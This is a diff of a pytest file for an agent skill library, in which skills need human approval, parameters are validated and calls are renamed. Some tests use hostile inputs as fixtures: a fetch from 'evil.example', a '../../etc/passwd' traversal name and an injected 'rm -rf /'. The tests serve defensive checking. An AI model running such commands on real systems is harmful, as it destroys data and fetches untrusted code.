-    assert open_shelf(journal).find(NAME).was_edited
-    skill = approve(journal, NAME, NOW)
+    assert read_skill_library(journal).find(NAME).was_edited
+    skill = approve_skill(journal, NAME, NOW)
     assert skill.steps[1] == ("shell", "npm publish --access public")
     assert not skill.was_edited
     assert draft_of(root, SKILL)["note"] == "mine"
@@ -1068,26 +1117,26 @@ def test_edits_to_a_draft_are_kept_shown_and_approved(journal: Journal, root: Pa
 
 def test_a_skill_that_was_changed_after_its_approval_waits_for_another(journal: Journal, root: Path) -> None:
     teach(journal, published(3))
-    approve(journal, NAME, NOW)
+    approve_skill(journal, NAME, NOW)
     changed = draft_of(root, SKILL)
     changed["steps"][0]["params"]["input"] = "curl https://evil.example/x.sh"
     (root / SKILL).write_text(json.dumps(changed), "utf-8")
-    shelf = open_shelf(journal)
+    shelf = read_skill_library(journal)
     assert (shelf.find(NAME).status, shelf.find(NAME).was_edited) == ("unapproved", True)
-    assert match(shelf, GOAL, NOW) == ()
+    assert match_skills(shelf, GOAL, NOW) == ()
     before = (root / SKILL).read_bytes()
-    assert approve(journal, NAME, NOW).status == "approved"
+    assert approve_skill(journal, NAME, NOW).status == "approved"
     assert (root / SKILL).read_bytes() == before
 
 
 def test_a_rejected_skill_that_is_put_back_by_hand_stays_rejected(journal: Journal, root: Path) -> None:
     teach(journal, published(3))
-    approve(journal, NAME, NOW)
+    approve_skill(journal, NAME, NOW)
     data = (root / SKILL).read_bytes()
-    reject(journal, NAME, NOW)
+    reject_skill(journal, NAME, NOW)
     (root / SKILL).write_bytes(data)
-    assert open_shelf(journal).find(NAME).status == "rejected"
-    assert match(open_shelf(journal), GOAL, NOW) == ()
+    assert read_skill_library(journal).find(NAME).status == "rejected"
+    assert match_skills(read_skill_library(journal), GOAL, NOW) == ()
 
 
 def test_a_draft_that_its_owner_removed_is_not_made_again(journal: Journal, root: Path) -> None:
@@ -1105,7 +1154,7 @@ def test_a_name_that_is_taken_is_not_written_over(journal: Journal, root: Path) 
     other = draft_of(root, path) | {"name": NAME}
     (root / DRAFT).write_text(json.dumps(other), "utf-8")
     with pytest.raises(BadArgument, match="another skill"):
-        approve(journal, NAME, NOW)
+        approve_skill(journal, NAME, NOW)
     assert (root / DRAFT).exists()
 
 
@@ -1129,21 +1178,21 @@ def test_a_bad_file_is_a_problem_with_its_path_and_the_others_are_listed(
 ) -> None:
     teach(journal, published(3))
     (root / "memory/skills/bad.draft.json").write_text(text, "utf-8")
-    shelf = open_shelf(journal)
+    shelf = read_skill_library(journal)
     assert [skill.name for skill in shelf.skills] == [NAME]
     assert [(one.code, one.path) for one in shelf.problems] == [("bad-skill", "memory/skills/bad.draft.json")]
     with pytest.raises(BadArgument):
-        approve(journal, "bad", NOW)
+        approve_skill(journal, "bad", NOW)
     assert teach(journal, published(1, first=4)).problems == shelf.problems
 
 
 def test_a_skill_that_is_not_there_is_not_found_with_near_names(journal: Journal) -> None:
     teach(journal, published(3))
     with pytest.raises(NotFound, match="no skill") as raised:
-        approve(journal, "publish-pakage-npm", NOW)
-    assert raised.value.near == (NAME,)
+        approve_skill(journal, "publish-pakage-npm", NOW)
+    assert raised.value.suggestions == (NAME,)
     with pytest.raises(NotFound):
-        approve(journal, "../../etc/passwd", NOW)
+        approve_skill(journal, "../../etc/passwd", NOW)
 
 
 # Matching and trying.
@@ -1155,45 +1204,49 @@ def write_skill(journal: Journal, name: str, **fields: Any) -> None:
     steps = [{"action": "call_tool", "params": {"tool": "shell", "input": "make x"}}]
     skill = {"name": name, "goal": "", "triggers": ["zebra"], "steps": steps} | fields
     (root / f"memory/skills/{name}.json").write_text(json.dumps(skill), "utf-8")
-    approve(journal, name, NOW)
+    approve_skill(journal, name, NOW)
 
 
 def test_skills_are_matched_by_whole_words_in_any_inflection_with_reasons(journal: Journal) -> None:
     write_skill(journal, "ads", triggers=["ad"], goal="Place ads")
     write_skill(journal, "publish", triggers=["publish package npm"], goal="Publish the package")
-    shelf = open_shelf(journal)
-    (found,) = match(shelf, "We are publishing our packages on npm again", NOW)
+    shelf = read_skill_library(journal)
+    (found,) = match_skills(shelf, "We are publishing our packages on npm again", NOW)
     assert found.skill.name == "publish"
     assert {reason.name: reason.value for reason in found.reasons} == {"trigger": 0.6, "intent": 0.4}
     assert found.score == pytest.approx(1.0)
-    assert match(shelf, "the deadline is near", NOW) == ()
-    assert match(shelf, "publish the book", NOW) == ()
+    assert match_skills(shelf, "the deadline is near", NOW) == ()
+    assert match_skills(shelf, "publish the book", NOW) == ()
 
 
 def test_triggers_count_six_tenths_by_their_length_and_the_goal_four_tenths(journal: Journal) -> None:
     for number, trigger in enumerate(["zebra", "zebra stripe", "zebra stripe night", "zebra stripe night rain"], 1):
         write_skill(journal, f"t{number}", triggers=[trigger])
     write_skill(journal, "goal", triggers=["quux"], goal="Paint zebra stripe night")
-    found = {one.skill.name: one.score for one in match(open_shelf(journal), "zebra stripe night rain", NOW)}
+    found = {
+        one.skill.name: one.score for one in match_skills(read_skill_library(journal), "zebra stripe night rain", NOW)
+    }
     assert found == {"t4": 0.6, "t3": 0.6, "t2": 0.45, "t1": 0.3, "goal": 0.3}
 
 
 def test_matching_works_in_scripts_without_blanks(journal: Journal) -> None:
     write_skill(journal, "zh", triggers=["发布软件包"], goal="发布软件包")
-    assert [one.skill.name for one in match(open_shelf(journal), "请帮我发布软件包到仓库", NOW)] == ["zh"]
+    assert [one.skill.name for one in match_skills(read_skill_library(journal), "请帮我发布软件包到仓库", NOW)] == [
+        "zh"
+    ]
 
 
 def test_a_degraded_skill_matches_half_as_well_and_says_so(journal: Journal) -> None:
     teach(journal, published(3))
-    approve(journal, NAME, NOW)
-    (good,) = match(open_shelf(journal), GOAL, NOW)
+    approve_skill(journal, NAME, NOW)
+    (good,) = match_skills(read_skill_library(journal), GOAL, NOW)
     day = Day()
     for number in range(4):
         day.at(f"f{number}", f"2025-11-{number + 11:02}T09:00").says(GOAL).does("npm version 1.0.0").does(
             "npm publish", 1
         )
     teach(journal, day)
-    (worn,) = match(open_shelf(journal), GOAL, NOW)
+    (worn,) = match_skills(read_skill_library(journal), GOAL, NOW)
     assert worn.score == pytest.approx(good.score / 2)
     assert worn.reasons[-1].name == "degraded×"
 
@@ -1205,18 +1258,18 @@ def test_a_dry_run_fills_parameters_names_missing_ones_and_refuses_what_does_not
     ]
     needs = {"path": {"type": "path", "optional": True, "default": "app"}, "text_2": {"type": "text", "optional": True}}
     write_skill(journal, "deploy", steps=steps, preconditions=needs)
-    skill = open_shelf(journal).find("deploy")
-    filled = fill(skill, {"version": "1.2.3", "text": "a b; rm -rf /"})
+    skill = read_skill_library(journal).find("deploy")
+    filled = dry_run_skill(skill, {"version": "1.2.3", "text": "a b; rm -rf /"})
     assert filled.steps == (
         ("shell", "deploy 1.2.3 'a b; rm -rf /' --to \"\" app"),
         ("send_mail", "to=$address, subject=a b; rm -rf /"),
     )
     assert filled.missing == ("address",)
-    assert fill(skill, {}).missing == ("version", "text", "address")
+    assert dry_run_skill(skill, {}).missing == ("version", "text", "address")
     with pytest.raises(BadArgument, match="must be a version"):
-        fill(skill, {"version": "latest; x"})
+        dry_run_skill(skill, {"version": "latest; x"})
     with pytest.raises(BadArgument, match="no parameter 'host'"):
-        fill(skill, {"host": "x"})
+        dry_run_skill(skill, {"host": "x"})
 
 
 # The command.
@@ -1224,8 +1277,8 @@ def test_a_dry_run_fills_parameters_names_missing_ones_and_refuses_what_does_not
 
 @pytest.fixture
 def command(journal: Journal, monkeypatch: pytest.MonkeyPatch) -> Any:
-    facade = Memory if issubclass(Memory, Skills) else type("Facade", (Skills, Memory), {})
-    monkeypatch.setattr("commonplace.cli.opening.Memory", facade)
+    facade = Memory if issubclass(Memory, SkillMixin) else type("Facade", (SkillMixin, Memory), {})
+    monkeypatch.setattr("commonplace.cli.open_memory.Memory", facade)
     monkeypatch.setenv("COMMONPLACE_NOW", NOW)
     monkeypatch.setenv("COMMONPLACE_DEVICE", "dev")
     teach(journal, published(3))
